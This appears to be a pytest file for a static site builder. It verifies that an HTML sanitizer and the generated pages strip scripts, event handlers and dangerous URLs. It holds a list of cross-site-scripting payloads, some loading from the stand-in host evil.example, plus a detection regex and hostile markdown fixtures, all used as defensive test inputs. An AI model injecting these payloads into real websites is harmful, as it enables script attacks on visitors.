"""Hostile HTML in documents gets nowhere: the sanitizer alone, then whole built pages."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from site_builder.linkify import NameLinker
from site_builder.sanitize import inline_html
from tests.conftest import ROOT, build_site, config_only

BAD = Path(__file__).parent / "fixtures" / "bad"

PAYLOADS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    '<svg onload=alert(1)><script>alert(2)</script></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    '<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" target="_blank" onmouseover="alert(1)">ok</a>',
    '<template><script>alert(1)</script></template>',
    '<!--<script>alert(1)</script>-->',
]
FORBIDDEN = re.compile(r"<(script|iframe|object|embed|style|meta|base|link|form|input|button|svg|math|template)\b"
                       r"|\son\w+\s*=|javascript:|vbscript:|data:|style=", re.IGNORECASE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitizer_removes_every_active_construct(payload):
    cleaned = inline_html(payload)
    assert not FORBIDDEN.search(cleaned), cleaned
    for tag in BeautifulSoup(cleaned, "html.parser").find_all(True):
        assert tag.name in {"a", "img", "b", "i", "em", "strong", "p", "code", "q", "br"} or tag.name.isalpha()
        assert not [a for a in tag.attrs if a.startswith("on")]


def test_sanitizer_keeps_safe_markup_and_hardens_links_and_images():
    cleaned = inline_html('<b>bold</b> <a href="https://example.org/x" target="_blank">link</a> '
                          '<img src="https://example.org/a.png" alt="A chart">')
    soup = BeautifulSoup(cleaned, "html.parser")
    assert soup.b.get_text() == "bold"
    assert soup.a["href"] == "https://example.org/x" and soup.a["rel"] == ["noopener", "noreferrer"]
    assert "target" not in soup.a.attrs
    assert (soup.img["loading"], soup.img["referrerpolicy"], soup.img["alt"]) == ("lazy", "no-referrer", "A chart")


def test_images_without_a_usable_source_are_dropped_and_alt_is_always_present():
    cleaned = inline_html('<img src="data:image/png;base64,AAAA" alt="a"><img src="/relative.png" alt="b">'
                          '<img src="https://example.org/c.png">')
    images = BeautifulSoup(cleaned, "html.parser").find_all("img")
    assert [(i["src"], i["alt"]) for i in images] == [("https://example.org/c.png", "")]


def test_name_links_never_land_inside_attributes():
    cleaned = inline_html('<a title="Ann Lee" href="https://example.org">Ann Lee</a> and Ann Lee agree')
    linked = NameLinker({"Ann Lee": "/experts/ann-lee/"})(cleaned)
    soup = BeautifulSoup(linked, "html.parser")
    assert soup.find("a")["title"] == "Ann Lee"
    assert [a["href"] for a in soup.find_all("a")] == ["https://example.org", "/experts/ann-lee/"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    content = config_only(root)
    shutil.copy(BAD / "hostile.html", content)
    shutil.copy(BAD / "markup-in-metadata.md", content)
    (content / "hostile-markdown.md").write_text(
        "---\ntitle: Markdown with raw HTML\ndate: 2024-03-02\n---\n\n"
        "Intro with <span onclick=\"alert(1)\">a span</span> and [a link](javascript:alert(1)).\n\n"
        "<div><script>alert('block')</script><iframe src=\"https://evil.example\"></iframe>Block text</div>\n\n"
        "![tracking pixel](https://tracker.example/p.png) inline image\n", encoding="utf-8")
    out = root / "_site"
    build_site(out, content)
    return out


def test_built_pages_carry_no_active_content_from_documents(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        for script in soup.find_all("script"):  # the site's own only; a title's "alert" is escaped JSON-LD
            assert "alert" not in script.get_text() or script.get("type") == "application/ld+json", page
        assert not soup.find_all(["iframe", "object", "embed", "style", "base"]), page
        assert [f["action"] for f in soup.find_all("form")] == ["/search/"], page  # the header's search box
        assert not soup.find_all("meta", attrs={"http-equiv": True}), page
        for tag in soup.find_all(True):
            assert not [a for a in tag.attrs if a.lower().startswith("on")], (page, tag.name)
            for attr in ("href", "src", "action"):
                value = str(tag.get(attr, "")).strip().lower()
                assert not value.startswith(("javascript:", "data:", "vbscript:")), (page, tag)


def test_external_links_and_remote_images_are_hardened(hostile_site):
    html = (hostile_site / "articles" / "markdown-with-raw-html" / "index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    assert "Block text" in soup.main.get_text() and "a span" in soup.main.get_text()
    external = [a for a in soup.select("main a[href]") if a["href"].startswith("http")]
    for a in external:
        assert set(a["rel"]) >= {"noopener", "noreferrer"}
    body = (hostile_site / "articles" / "hostile-html-body" / "index.html").read_text(encoding="utf-8")
    images = BeautifulSoup(body, "html.parser").select("main img")
    assert [i["src"] for i in images] == ["https://tracker.example/pixel.png"]
    assert images[0]["loading"] == "lazy" and images[0]["referrerpolicy"] == "no-referrer"


def test_json_ld_from_hostile_metadata_cannot_close_its_script(hostile_site):
    page = next((hostile_site / "articles").glob("script*/index.html")).read_text(encoding="utf-8")
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
    assert blocks and all("<" not in block for block in blocks)


def test_templates_mark_nothing_safe_but_sanitized_html():
    for template in (ROOT / "templates").glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert "|safe" not in text.replace(" ", ""), template.name
        assert "autoescape false" not in text, template.name
